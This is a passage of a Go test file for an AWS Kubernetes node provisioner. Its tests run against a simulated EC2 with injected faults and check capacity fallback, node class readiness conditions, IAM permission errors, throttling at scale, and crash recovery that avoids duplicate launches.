			s.AMIFamily = ptr(awsv1.AMIFamilyAL2023)
		})
		time.Sleep(time.Minute)
		w.waitReady(t, "default")
		claim := newClaim("a")
		claim.Spec.Requirements = claim.Spec.Requirements[2:3]
		if _, m := w.create(t, claim); !strings.HasPrefix(m.InstanceType, "m6g.") {
			t.Errorf("launched %s", m.InstanceType)
		}
		c, err := w.provider.Catalog(t.Context(), defaultPool())
		check(t, err)
		for _, it := range c.Types {
			if strings.HasPrefix(it.Name, "t3.") && slices.ContainsFunc(it.Offerings, func(o cloud.Offering) bool { return o.Available }) {
				t.Errorf("%s counts as available", it.Name)
			}
		}
	})
}

func TestDryPoolGivesTheNextChoiceAndIsRemembered(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		_, first := w.create(t, newClaim("a"))
		w.faults(t, func(f *awsmodel.Faults) {
			f.Pools = []awsmodel.PoolRule{{Match: "on-demand/" + first.InstanceType + "/*", Depth: 0}}
		})
		_, second := w.create(t, newClaim("b"))
		if second.InstanceType == first.InstanceType {
			t.Fatalf("%s is out and was launched", second.InstanceType)
		}
		c, err := w.provider.Catalog(t.Context(), defaultPool())
		check(t, err)
		for _, it := range c.Types {
			for _, o := range it.Offerings {
				if it.Name == first.InstanceType && o.CapacityType() == "on-demand" && o.Available {
					t.Errorf("%s in %s still counts as available", it.Name, o.Zone())
				}
			}
		}
		time.Sleep(4 * time.Minute)
		w.faults(t, func(f *awsmodel.Faults) { f.Pools = nil })
		if _, third := w.create(t, newClaim("c")); third.InstanceType != first.InstanceType {
			t.Errorf("four minutes later %s was launched, want %s again", third.InstanceType, first.InstanceType)
		}
	})
}

// Without its service-linked role an account gets no spot machines: the user is told, and what may run on demand does.
func TestWithoutTheSpotRoleMachinesRunOnDemand(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		w.faults(t, func(f *awsmodel.Faults) {
			f.Fail = map[string]awsmodel.Failure{"ec2:CreateFleet": {Code: "AuthFailure.ServiceLinkedRoleCreationNotPermitted", Message: "no", Status: 403}}
		})
		claim := newClaim("a")
		claim.Spec.Requirements[2].Values = []string{"spot"}
		if _, err := w.provider.Launch(t.Context(), claim); !isType[*cloud.NoCapacityError](err) {
			t.Errorf("launch = %v, want that there is no capacity", err)
		}
		w.faults(t, func(f *awsmodel.Faults) { f.Fail = nil })
		flexible := newClaim("b")
		flexible.Spec.Requirements[2].Values = []string{"spot", "on-demand"}
		if _, m := w.create(t, flexible); m.CapacityType != "on-demand" {
			t.Errorf("launched %s although spot was refused just now", m.CapacityType)
		}
		time.Sleep(time.Second)
		if !w.events.has(telemetry.SpotServiceRoleMissing, "a") {
			t.Error("nothing says that the role is missing")
		}
	})
}

func TestTemplatesAreShortLived(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		w.create(t, newClaim("a"))
		if len(w.cloud.Templates()) == 0 {
			t.Fatal("there is no launch template")
		}
		time.Sleep(time.Minute)
		if left := w.cloud.Templates(); len(left) > 0 {
			t.Errorf("a minute after the last launch there are %d launch templates", len(left))
		}
		w.create(t, newClaim("b"))
	})
}

func TestUserDataThatComesCloseToTheLimit(t *testing.T) {
	var log bytes.Buffer
	before := slog.Default()
	slog.SetDefault(slog.New(slog.NewTextHandler(&log, nil)))
	defer slog.SetDefault(before)
	metrics := telemetry.NewMetrics(prometheus.NewRegistry(), telemetry.ConditionKinds("karpenter_k8s_aws_ec2nodeclass"))
	c := &classes{env: &environment{in: Input{Metrics: metrics}}}
	for size, warns := range map[int]bool{14745: false, 14746: true} {
		log.Reset()
		c.templateMade(&launch.Template{Class: defaultClass(), UserData: strings.Repeat("x", size)})
		if strings.Contains(log.String(), "EC2NodeClass=default") != warns {
			t.Errorf("%d bytes are logged as %q, want a warning: %v", size, log.String(), warns)
		}
		if got := testutil.ToFloat64(metrics.NodeClassUserData.WithLabelValues("default")); got != float64(size) {
			t.Errorf("the gauge says %v, want %d", got, size)
		}
	}
}

func TestATemplateThatSomebodyDeletedIsMadeAgain(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		w.create(t, newClaim("a"))
		for _, template := range w.cloud.Templates() {
			_, err := w.provider.env.clients.EC2.DeleteLaunchTemplate(t.Context(), deleteTemplate(template.Name))
			check(t, err)
		}
		w.create(t, newClaim("b"))
	})
}

func TestDeletedClassLeavesNothing(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		claim, _ := w.create(t, newClaim("a"))
		nc := w.waitReady(t, "default")
		check(t, w.kube.Delete(t.Context(), nc))
		time.Sleep(time.Second)
		check(t, w.kube.Get(t.Context(), client.ObjectKey{Name: "default"}, nc))
		if !w.events.has(telemetry.WaitingOnNodeClaimTermination, "default") {
			t.Error("nothing says that the class waits for its claims")
		}
		if _, err := w.provider.Launch(t.Context(), newClaim("b")); !isType[*cloud.ClassNotReadyError](err) {
			t.Errorf("launch of a class that is being deleted: %v", err)
		}
		fresh := w.claim(t, claim.Name)
		fresh.Finalizers = nil
		check(t, w.kube.Update(t.Context(), fresh))
		check(t, client.IgnoreNotFound(w.kube.Delete(t.Context(), fresh)))
		time.Sleep(5 * time.Second)
		if err := w.kube.Get(t.Context(), client.ObjectKey{Name: "default"}, nc); client.IgnoreNotFound(err) != nil || err == nil {
			t.Errorf("the class is still there: %v, finalizers %v", err, nc.Finalizers)
		}
		if left := w.cloud.Profiles(); len(left) > 0 {
			t.Errorf("instance profiles are left: %+v", left)
		}
		if left := w.cloud.Templates(); len(left) > 0 {
			t.Errorf("launch templates are left: %+v", left)
		}
	})
}

func deleteTemplate(name string) *ec2.DeleteLaunchTemplateInput {
	return &ec2.DeleteLaunchTemplateInput{LaunchTemplateName: &name}
}

func isType[E error](err error) bool {
	var target E
	return errors.As(err, &target)
}

func TestRoleChangeMakesANewProfileAndTheOldIsCollected(t *testing.T) {
	everything := map[string]awsmodel.Identity{} // the shipped policy lets the controller pass one role only
	inWorld(t, awsmodel.Config{Identities: everything}, nil, func(t *testing.T, w *world) {
		before := w.waitReady(t, "default").Status.InstanceProfile
		w.editClass(t, func(s *awsv1.EC2NodeClassSpec) { s.Role = "path/to/Other" })
		time.Sleep(time.Minute)
		nc := &awsv1.EC2NodeClass{}
		check(t, w.kube.Get(t.Context(), client.ObjectKey{Name: "default"}, nc))
		c := condition.Get(nc, awsv1.ConditionTypeInstanceProfileReady)
		if c == nil || c.Status != metav1.ConditionFalse || c.Reason != awsv1.ReasonRoleNotFound || !strings.Contains(c.Message, "role Other does not exist") {
			t.Errorf("condition = %+v, want False with reason %s", c, awsv1.ReasonRoleNotFound)
		}
		w.cloud.AddRole("Other")
		time.Sleep(3 * time.Minute)
		after := w.waitReady(t, "default").Status.InstanceProfile
		if after == before || after == "" {
			t.Fatalf("the profile was %q and is %q", before, after)
		}
		time.Sleep(40 * time.Minute)
		if got := len(w.cloud.Profiles()); got != 2 {
			t.Errorf("within an hour there are %d profiles, want the new and the old", got)
		}
		time.Sleep(2 * time.Hour)
		if got := w.cloud.Profiles(); len(got) != 1 || got[0].Name != after {
			t.Errorf("profiles = %+v, want only %s", got, after)
		}
	})
}

func TestUserDataThatJoinsTheClusterIsPointedOut(t *testing.T) {
	join := ptr("#!/bin/bash\n/etc/eks/bootstrap.sh demo --container-runtime containerd\n")
	for name, tc := range map[string]struct {
		edit func(*awsv1.EC2NodeClassSpec)
		want bool
	}{
		"a script that joins":    {func(s *awsv1.EC2NodeClassSpec) { s.UserData = join }, true},
		"a script that does not": {func(s *awsv1.EC2NodeClassSpec) { s.UserData = ptr("#!/bin/bash\ndate\n") }, false},
		"a family that leaves it to the user": {func(s *awsv1.EC2NodeClassSpec) {
			s.AMIFamily, s.UserData = ptr(awsv1.AMIFamilyCustom), join
			s.AMISelectorTerms = []awsv1.AMISelectorTerm{{Name: "amazon-eks-node-*"}}
		}, false},
	} {
		t.Run(name, func(t *testing.T) {
			inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
				w.editClass(t, tc.edit)
				time.Sleep(time.Minute)
				if got := w.events.has(telemetry.BootstrapsTwice, "default"); got != tc.want {
					t.Errorf("pointed out: %t, want %t", got, tc.want)
				}
			})
		})
	}
}

func TestMissingThingsAreConditions(t *testing.T) {
	for name, tc := range map[string]struct {
		edit              func(*awsv1.EC2NodeClassSpec)
		condition, reason string
		names             string // what the message names of the class
	}{
		"no subnet": {func(s *awsv1.EC2NodeClassSpec) {
			s.SubnetSelectorTerms = []awsv1.SubnetSelectorTerm{{ID: "subnet-0000"}}
		}, awsv1.ConditionTypeSubnetsReady, awsv1.ReasonSubnetsNotFound, `SubnetSelector did not match any Subnets: spec.subnetSelectorTerms is [{"id":"subnet-0000"}]`},
		"no security group": {func(s *awsv1.EC2NodeClassSpec) {
			s.SecurityGroupSelectorTerms = []awsv1.SecurityGroupSelectorTerm{{Name: "nope"}}
		}, awsv1.ConditionTypeSecurityGroupsReady, awsv1.ReasonSecurityGroupsNotFound, `[{"name":"nope"}]`},
		"no image": {func(s *awsv1.EC2NodeClassSpec) {
			s.AMISelectorTerms, s.AMIFamily = []awsv1.AMISelectorTerm{{ID: "ami-0000"}}, ptr(awsv1.AMIFamilyAL2023)
		}, awsv1.ConditionTypeAMIsReady, awsv1.ReasonAMINotFound, `[{"id":"ami-0000"}]`},
		"Ubuntu of v1beta1, without images": {func(s *awsv1.EC2NodeClassSpec) {
			s.AMISelectorTerms, s.AMIFamily = []awsv1.AMISelectorTerm{{ID: awsv1.PlaceholderAMI}}, ptr(awsv1.AMIFamilyAL2)
		}, awsv1.ConditionTypeAMIsReady, awsv1.ReasonAMINotFound, "amiFamily Ubuntu"},
		"an alias that ended": {func(s *awsv1.EC2NodeClassSpec) {
			s.AMISelectorTerms = []awsv1.AMISelectorTerm{{Alias: "al2@latest"}}
		}, awsv1.ConditionTypeAMIsReady, awsv1.ReasonUnsupportedAlias, ""},
		"a placement group": {func(s *awsv1.EC2NodeClassSpec) {
			s.PlacementGroupSelector = &awsv1.PlacementGroupSelector{Name: "x"}
		}, awsv1.ConditionTypePlacementGroupReady, awsv1.ReasonPlacementGroupNotFound, `spec.placementGroupSelector is {"name":"x"}; create the group`},
		"a role that may not be passed": {func(s *awsv1.EC2NodeClassSpec) { s.Role = "Other" }, awsv1.ConditionTypeInstanceProfileReady, awsv1.ReasonUnauthorized, "iam:PassRole"},
		"a profile that does not exist": {func(s *awsv1.EC2NodeClassSpec) {
			s.Role, s.InstanceProfile = "", ptr("nobody")
		}, awsv1.ConditionTypeValidationSucceeded, awsv1.ReasonInstanceProfileNotFound, ""},
		"an unknown kubelet field": {func(s *awsv1.EC2NodeClassSpec) {
			s.Kubelet = kubelet(map[string]any{"memorySwap": map[string]any{"swapBehaviour": "x"}})
		}, awsv1.ConditionTypeValidationSucceeded, awsv1.ReasonInvalidKubeletConfiguration, ""},
		"an expression": {func(s *awsv1.EC2NodeClassSpec) {
			s.Kubelet = kubelet(map[string]any{"maxPods": "vcpus * 8"})
		}, awsv1.ConditionTypeValidationSucceeded, awsv1.ReasonKubeletExpressionsDisabled, ""},
		"a restricted tag": {func(s *awsv1.EC2NodeClassSpec) {
			s.Tags = map[string]string{awsv1.TagNodeClaim: "x"}
		}, awsv1.ConditionTypeValidationSucceeded, awsv1.ReasonTagValidationFailed, ""},
		"user data that is too large": {func(s *awsv1.EC2NodeClassSpec) {
			s.UserData = ptr("#!/bin/sh\n" + strings.Repeat("# filler\n", 3000))
		}, awsv1.ConditionTypeValidationSucceeded, awsv1.ReasonUserDataSizeLimitExceeded, ""},
	} {
		t.Run(name, func(t *testing.T) {
			inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
				w.cloud.AddRole("Other")
				w.editClass(t, tc.edit)
				time.Sleep(3 * time.Minute)
				nc := &awsv1.EC2NodeClass{}
				check(t, w.kube.Get(t.Context(), client.ObjectKey{Name: "default"}, nc))
				if condition.IsTrue(nc, awsv1.ConditionTypeReady) {
					t.Errorf("the class is ready")
				}
				c := condition.Get(nc, tc.condition)
				if c == nil || c.Status != metav1.ConditionFalse || c.Reason != tc.reason {
					t.Errorf("condition %s = %+v, want False with reason %s", tc.condition, c, tc.reason)
				}
				if _, err := w.provider.Catalog(t.Context(), defaultPool()); !isType[*cloud.ClassNotReadyError](err) || !strings.Contains(err.Error(), c.Message) {
					t.Errorf("Catalog = %v, want ClassNotReadyError that says %q", err, c.Message)
				}
				if c != nil && !w.events.says(telemetry.NodeClassNotReady, "default", tc.reason+": "+c.Message) {
					t.Errorf("no event says %s: %s", tc.reason, c.Message)
				}
				if c != nil && !strings.Contains(c.Message, tc.names) {
					t.Errorf("message = %q, want one that names %s", c.Message, tc.names)
				}
			})
		})
	}
}

// What AWS or the class itself says no to stands in the condition; it used to be in the controller's log only.
func TestWhyAClassIsNotReadyYet(t *testing.T) {
	deny := func(action string) map[string]awsmodel.Failure {
		return map[string]awsmodel.Failure{action: {Code: "UnauthorizedOperation", Message: "no", Status: 403}}
	}
	for name, tc := range map[string]struct {
		edit      func(*awsv1.EC2NodeClassSpec)
		fail      map[string]awsmodel.Failure
		condition string
		says      []string
	}{
		"a missing permission": {func(s *awsv1.EC2NodeClassSpec) {
			s.SubnetSelectorTerms = []awsv1.SubnetSelectorTerm{{Tags: map[string]string{"a": "b"}}}
		}, deny("ec2:DescribeSubnets"), awsv1.ConditionTypeSubnetsReady, []string{"UnauthorizedOperation", "ec2:DescribeSubnets"}},
		"user data that cannot be merged": {func(s *awsv1.EC2NodeClassSpec) {
			s.AMISelectorTerms, s.UserData = []awsv1.AMISelectorTerm{{Alias: "bottlerocket@latest"}}, ptr("#!/bin/bash\necho")
		}, nil, awsv1.ConditionTypeValidationSucceeded, []string{"user data is not valid TOML"}},
		"what EC2 does not accept in a template": {func(s *awsv1.EC2NodeClassSpec) {
			s.NetworkInterfaces = []*awsv1.NetworkInterface{{InterfaceType: "interface"}, {DeviceIndex: 1, InterfaceType: "interface"}}
			s.AssociatePublicIPAddress = ptr(true)
		}, nil, awsv1.ConditionTypeValidationSucceeded, []string{"InvalidParameterCombination", "ublic"}},
	} {
		t.Run(name, func(t *testing.T) {
			inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
				w.faults(t, func(f *awsmodel.Faults) { f.Fail = tc.fail })
				w.editClass(t, tc.edit)
				time.Sleep(3 * time.Minute)
				nc := &awsv1.EC2NodeClass{}
				check(t, w.kube.Get(t.Context(), client.ObjectKey{Name: "default"}, nc))
				c := condition.Get(nc, tc.condition)
				if c == nil || c.Status != metav1.ConditionUnknown || c.Reason != awsv1.ReasonLookupFailed || c.ObservedGeneration != nc.Generation {
					t.Fatalf("condition %s = %+v, want Unknown with reason %s", tc.condition, c, awsv1.ReasonLookupFailed)
				}
				for _, want := range tc.says {
					if !strings.Contains(c.Message, want) {
						t.Errorf("the condition says %q, want %q in it", c.Message, want)
					}
				}
				before := nc.ResourceVersion
				time.Sleep(5 * time.Minute)
				check(t, w.kube.Get(t.Context(), client.ObjectKey{Name: "default"}, nc))
				if nc.ResourceVersion != before {
					t.Error("the class is written although nothing changed")
				}
			})
		})
	}
}

// A class that was ready stays so while AWS cannot be asked.
func TestTroubleWithAWSTakesNothingBack(t *testing.T) {
	for _, code := range []string{"UnauthorizedOperation", "RequestLimitExceeded", "InternalError", "InvalidParameterValue"} {
		t.Run(code, func(t *testing.T) {
			inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
				w.faults(t, func(f *awsmodel.Faults) {
					f.Fail = map[string]awsmodel.Failure{"ec2:Describe*": {Code: code, Message: "no"}, "ssm:*": {Code: code, Message: "no"}, "iam:*": {Code: code, Message: "no"}}
				})
				time.Sleep(2 * time.Hour)
				w.waitReady(t, "default")
			})
		})
	}
}

// Each try gets an answer that differs in its request's id; the class must not be written, and tried again, because of that.
func TestAClusterThatEKSDoesNotKnow(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newUnreadyWorld(t, awsmodel.Config{Faults: awsmodel.Faults{LatencyMillis: 1000}}, nil)
		w.faults(t, func(f *awsmodel.Faults) {
			f.Fail = map[string]awsmodel.Failure{"eks:DescribeCluster": {Code: "ResourceNotFoundException", Message: "No cluster found for name: demo.", Status: 404}}
		})
		time.Sleep(time.Hour)
		nc := &awsv1.EC2NodeClass{}
		check(t, w.kube.Get(t.Context(), client.ObjectKey{Name: "default"}, nc))
		c := condition.Get(nc, awsv1.ConditionTypeValidationSucceeded)
		if c == nil || c.Reason != awsv1.ReasonClusterCIDRResolutionFailed || c.Message != "ResourceNotFoundException: No cluster found for name: demo." {
			t.Errorf("condition = %+v, want False with reason %s", c, awsv1.ReasonClusterCIDRResolutionFailed)
		}
		if n := w.cloud.Calls()["eks:DescribeCluster"]; n > 200 {
			t.Errorf("EKS was asked %d times within an hour", n)
		}
	})
}

func ptr[T any](v T) *T { return &v }

func kubelet(fields map[string]any) *awsv1.KubeletConfiguration {
	k, err := awsv1.NewKubeletConfiguration(fields)
	if err != nil {
		panic(err)
	}
	return k
}

// Each call of a launch is tried before there is one, and what is missing is told on the class: AWS's code, the action, and whose
// policy it is.
func TestDeniedActionsAreNamed(t *testing.T) {
	all := []byte(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`)
	without := func(action string) []byte {
		return fmt.Appendf(nil, `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"},{"Effect":"Deny","Action":%q,"Resource":"*"}]}`, action)
	}
	for name, tc := range map[string]struct {
		action   string
		boundary bool // the permissions boundary denies it, not the policy
		reason   string
		says     string
	}{
		"launch templates": {"ec2:CreateLaunchTemplate", false, awsv1.ReasonCreateLaunchTemplateAuthCheckFailed, "the controller's IAM policy"},
		"fleets":           {"ec2:CreateFleet", false, awsv1.ReasonCreateFleetAuthCheckFailed, "the controller's IAM policy"},
		// A fleet's dry run asks for the right to run machines, too.
		"machines":               {"ec2:RunInstances", false, awsv1.ReasonCreateFleetAuthCheckFailed, "the controller's IAM policy"},
		"machines, by the limit": {"ec2:RunInstances", true, awsv1.ReasonCreateFleetAuthCheckFailed, "permissions boundary"},
	} {
		t.Run(name, func(t *testing.T) {
			who := awsmodel.Identity{ARN: "arn:aws:iam::123456789012:role/x", Policies: [][]byte{without(tc.action)}}
			if tc.boundary {
				who.Policies, who.Boundary = [][]byte{all}, without(tc.action)
			}
			synctest.Test(t, func(t *testing.T) {
				w := newUnreadyWorld(t, awsmodel.Config{Identities: map[string]awsmodel.Identity{"AKIACONTROLLER": who}}, nil)
				time.Sleep(time.Minute)
				nc := &awsv1.EC2NodeClass{}
				check(t, w.kube.Get(t.Context(), client.ObjectKey{Name: "default"}, nc))
				c := condition.Get(nc, awsv1.ConditionTypeValidationSucceeded)
				if c == nil || c.Status != metav1.ConditionFalse || c.Reason != tc.reason {
					t.Fatalf("condition = %+v, want False with reason %s", c, tc.reason)
				}
				for _, want := range []string{"UnauthorizedOperation", tc.action, tc.says} {
					if !strings.Contains(c.Message, want) {
						t.Errorf("the condition says %q, want %q in it", c.Message, want)
					}
				}
			})
		})
	}
}

// The bar of the project: 500 claims in 30 distinct requests against EC2's default limits.
func TestManyClaimsAtOnce(t *testing.T) {
	inWorld(t, awsmodel.Config{Faults: awsmodel.Faults{Throttle: true}}, nil, func(t *testing.T, w *world) {
		time.Sleep(5 * time.Minute) // the buckets fill up after the start
		calls := w.cloud.Calls()
		begun := time.Now()
		errs := w.launchAll(t, 500, func(i int, claim *v1.NodeClaim) {
			zones := []string{"us-east-1a", "us-east-1b", "us-east-1c"}
			claim.Spec.Requirements = append(claim.Spec.Requirements,
				v1.NodeSelectorRequirementWithMinValues{Key: corev1.LabelTopologyZone, Operator: "In", Values: zones[i%3 : i%3+1]},
				v1.NodeSelectorRequirementWithMinValues{Key: awsv1.LabelInstanceCPU, Operator: "Gt", Values: []string{fmt.Sprint(i % 5)}})
			if i%2 == 0 {
				claim.Spec.Requirements[2].Values = []string{"spot"}
			}
		})
		took := time.Since(begun)
		for _, err := range errs {
			t.Error(err)
		}
		after := w.cloud.Calls()
		for _, op := range []string{"ec2:CreateFleet", "ec2:CreateLaunchTemplate", "ec2:DescribeInstances"} {
			t.Logf("%s: %d calls", op, after[op]-calls[op])
		}
		t.Logf("500 claims took %v", took)
		if n := after["ec2:CreateFleet"] - calls["ec2:CreateFleet"]; n > 60 {
			t.Errorf("%d CreateFleet calls, want at most 60", n)
		}
		if took > time.Minute {
			t.Errorf("all launched after %v, want one minute", took)
		}
		w.wantOnePerClaim(t, 500)
	})
}

// After a restart in the middle of a large scale-up, each claim that has no machine yet may have one that nobody wrote down. To
// look for them one by one would use up the allowance of calls.
func TestManyClaimsAfterARestart(t *testing.T) {
	inWorld(t, awsmodel.Config{Faults: awsmodel.Faults{Throttle: true}}, nil, func(t *testing.T, w *world) {
		time.Sleep(5 * time.Minute)
		lost := newClaim("claim-000")
		lost.CreationTimestamp = metav1.NewTime(time.Now().Add(-time.Hour))
		_, err := w.provider.Launch(t.Context(), lost) // and the answer is lost with the process
		check(t, err)
		w.crash()
		w.provider = w.start(t)
		before, begun := w.cloud.Calls()["ec2:DescribeInstances"], time.Now()
		for _, err := range w.launchAll(t, 300, func(_ int, claim *v1.NodeClaim) { claim.CreationTimestamp = lost.CreationTimestamp }) {
			t.Error(err)
		}
		if took := time.Since(begun); took > 30*time.Second {
			t.Errorf("all launched after %v", took)
		}
		if n := w.cloud.Calls()["ec2:DescribeInstances"] - before; n > 10 {
			t.Errorf("%d DescribeInstances calls, want a few", n)
		}
		w.wantOnePerClaim(t, 300)
	})
}

// TestAStandbyFindsWhatTheLeaderLaunched has a leader that ends between the launch of a machine and writing it down, and a standby that has waited for that
// all along. Meanwhile the class was edited, so that EC2 takes its call for another one.
func TestAStandbyFindsWhatTheLeaderLaunched(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		leaderEnds := w.crash
		standby := w.start(t)
		time.Sleep(time.Hour)
		claim := newClaim("claim-000")
		claim.CreationTimestamp = metav1.NewTime(time.Now().Truncate(time.Second))
		launched, err := w.provider.Launch(t.Context(), claim)
		check(t, err)
		leaderEnds()
		time.Sleep(15 * time.Second)
		w.editClass(t, func(s *awsv1.EC2NodeClassSpec) { s.Tags = map[string]string{"team": "b"} })
		time.Sleep(15 * time.Second)
		// What this process has launched before says nothing about the claim either.
		for _, name := range []string{"claim-001", "claim-000"} {
			c := newClaim(name)
			c.CreationTimestamp = claim.CreationTimestamp
			if m, err := standby.Launch(t.Context(), c); err != nil || name == claim.Name && m.ProviderID != launched.ProviderID {
				t.Errorf("the standby launched %s for %s, %v; the leader had %s", m.ProviderID, name, err, launched.ProviderID)
			}
		}
		w.wantOnePerClaim(t, 2)
		// Later claims are its own: it asks EC2 nothing about them.
		time.Sleep(2 * time.Minute)
		before := w.cloud.Calls()["ec2:DescribeInstances"]
		own := newClaim("claim-002")
		own.CreationTimestamp = metav1.NewTime(time.Now().Truncate(time.Second))
		_, err = standby.Launch(t.Context(), own)
		check(t, err)
		if n := w.cloud.Calls()["ec2:DescribeInstances"] - before; n != 0 {
			t.Errorf("%d DescribeInstances calls for a claim of its own", n)
		}
	})
}

// TestAStandbyFindsWhatTheLeaderLaunchedByAnotherClock has an API server whose clock is five minutes ahead: a claim of the leader seems to be created long
// after the standby began to launch. EC2 does not say for a while whether it has a machine.
func TestAStandbyFindsWhatTheLeaderLaunchedByAnotherClock(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		leaderEnds := w.crash
		standby := w.start(t)
		claim := newClaim("claim-000")
		claim.CreationTimestamp = metav1.NewTime(time.Now().Add(5 * time.Minute))
		launched, err := w.provider.Launch(t.Context(), claim)
		check(t, err)
		leaderEnds()
		w.editClass(t, func(s *awsv1.EC2NodeClassSpec) { s.Tags = map[string]string{"team": "b"} })
		check(t, w.cloud.SetFaults(func(f *awsmodel.Faults) {
			f.Fail = map[string]awsmodel.Failure{"ec2:DescribeInstances": {Code: "InternalError", Message: "An internal error has occurred", Status: 500, Share: 1}}
		}))
		if m, err := standby.Launch(t.Context(), claim.DeepCopy()); err == nil {
			t.Errorf("the standby launched %s and does not know what runs", m.ProviderID)
		}
		time.Sleep(2 * time.Minute)
		check(t, w.cloud.SetFaults(func(f *awsmodel.Faults) { f.Fail = nil }))
		if m, err := standby.Launch(t.Context(), claim.DeepCopy()); err != nil || m.ProviderID != launched.ProviderID {
			t.Errorf("the standby launched %s, %v; the leader had %s", m.ProviderID, err, launched.ProviderID)
		}
		w.wantOnePerClaim(t, 1)
	})
}

// TestAMachineIsNotGoneBeforeEC2ShowsThatItCame stops a machine right after its launch, while EC2 answers about times before that: then it knows no such
// machine, which is not to say that it has stopped.
func TestAMachineIsNotGoneBeforeEC2ShowsThatItCame(t *testing.T) {
	for seed := range uint64(8) {
		inWorld(t, awsmodel.Config{Seed: seed}, nil, func(t *testing.T, w *world) {
			_, err := w.provider.Launch(t.Context(), newClaim("claim-001")) // there is a launch template now
			check(t, err)
			w.faults(t, func(f *awsmodel.Faults) { f.LagMillis = 20_000 })
			m, err := w.provider.Launch(t.Context(), newClaim("claim-000"))
			check(t, err)
			for err = w.provider.Terminate(t.Context(), m.ProviderID); err != nil; err = w.provider.Terminate(t.Context(), m.ProviderID) {
				if errors.Is(err, cloud.ErrNotFound) {
					t.Fatalf("seed %d: Terminate = %v before it stops", seed, err)
				}
				time.Sleep(time.Second)
			}
			if left, ok := w.provider.machines.launches.leaving.Get(instanceID(m.ProviderID)); !ok || !left.Deleting {
				t.Errorf("seed %d: what is known of the machine is %+v", seed, left)
			}
			runs := func() bool {
				return slices.ContainsFunc(w.cloud.Machines(), func(x awsmodel.Machine) bool {
					return providerID(x.Zone, x.ID) == m.ProviderID && x.State != "terminated"
				})
			}
			for range 40 {
				if got, err := w.provider.Get(t.Context(), m.ProviderID); runs() && (err != nil || got.ClaimName == "") {
					t.Fatalf("seed %d: Get = %+v, %v while it still stops", seed, got, err)
				}
				if err := w.provider.Terminate(t.Context(), m.ProviderID); runs() && err != nil {
					t.Fatalf("seed %d: Terminate = %v while it still stops", seed, err)
				}
				time.Sleep(250 * time.Millisecond)
			}
		})
	}
}

// TestWhatEC2DoesNotShowYetIsWaitedFor has a leader that ends between the launch of a machine and writing it down, an EC2 that takes its time to show
// the machine, and a class that was edited since: the standby's call is another one under the same token, so EC2 says that there was one before.
func TestWhatEC2DoesNotShowYetIsWaitedFor(t *testing.T) {
	for seed := range uint64(8) {
		inWorld(t, awsmodel.Config{Seed: seed}, nil, func(t *testing.T, w *world) {
			leaderEnds := w.crash
			standby := w.start(t)
			_, err := w.provider.Launch(t.Context(), newClaim("claim-001")) // there is a launch template now
			check(t, err)
			w.faults(t, func(f *awsmodel.Faults) { f.LagMillis = 60_000 })
			claim := newClaim("claim-000")
			launched, err := w.provider.Launch(t.Context(), claim)
			check(t, err)
			leaderEnds()
			w.editClass(t, func(s *awsv1.EC2NodeClassSpec) { s.Tags = map[string]string{"team": "b"} })
			began := time.Now()
			m, err := standby.Launch(t.Context(), claim.DeepCopy())
			for err != nil && time.Since(began) < 5*time.Minute {
				var refused *cloud.LaunchError
				if errors.As(err, &refused) {
					t.Fatalf("seed %d: the standby says that nothing was launched: %v", seed, err)
				}
				time.Sleep(5 * time.Second)
				m, err = standby.Launch(t.Context(), claim.DeepCopy())
			}
			if err != nil || m.ProviderID != launched.ProviderID {
				t.Errorf("seed %d: the standby launched %s, %v; the leader had %s", seed, m.ProviderID, err, launched.ProviderID)
			}
		})
	}
}

// TestATokenThatLaunchedNothingIsGivenUp has a leader that ends after a call that EC2 took and gave nothing for. Who leads next is told so where it asks
// the same; where it has to ask for something else it cannot tell that from a machine that EC2 does not show, and launches once it would have to.
func TestATokenThatLaunchedNothingIsGivenUp(t *testing.T) {
	for name, tc := range map[string]struct {
		edit   func(*awsv1.EC2NodeClassSpec)
		within time.Duration
	}{
		"asked the same":       {nil, 30 * time.Second},
		"asked in other words": {func(s *awsv1.EC2NodeClassSpec) { s.Tags = map[string]string{"team": "b"} }, 3 * time.Minute},
	} {
		inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
			w.faults(t, func(f *awsmodel.Faults) { f.Pools = []awsmodel.PoolRule{{Match: "*/*/*", Depth: 0}} })
			claim := newClaim("claim-000")
			if m, err := w.provider.Launch(t.Context(), claim); err == nil {
				t.Fatalf("the leader launched %s where there is nothing", m.ProviderID)
			}
			w.crash()
			w.faults(t, func(f *awsmodel.Faults) { f.Pools = nil })
			standby := w.start(t)
			if tc.edit != nil {
				w.editClass(t, tc.edit)
			}
			began := time.Now()
			_, err := standby.Launch(t.Context(), claim.DeepCopy())
			for err != nil && time.Since(began) < 10*time.Minute {
				time.Sleep(5 * time.Second)
				_, err = standby.Launch(t.Context(), claim.DeepCopy())
			}
			if took := time.Since(began); err != nil || took > tc.within {
				t.Errorf("%s: the claim has no machine after %v: %v", name, took, err)
			}
			w.wantOnePerClaim(t, 1)
		})
	}
}

func (w *world) launchAll(t *testing.T, n int, edit func(int, *v1.NodeClaim)) []error {
	t.Helper()
	var mu sync.Mutex
	var errs []error
	var wg sync.WaitGroup
	for i := range n {
		claim := newClaim(fmt.Sprintf("claim-%03d", i))
		edit(i, claim)
		wg.Go(func() {
			if _, err := w.provider.Launch(t.Context(), claim); err != nil {
				mu.Lock()
				errs = append(errs, err)
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	return errs
}

func (w *world) wantOnePerClaim(t *testing.T, n int) {
	t.Helper()
	if got := len(w.cloud.Alive()); got != n {
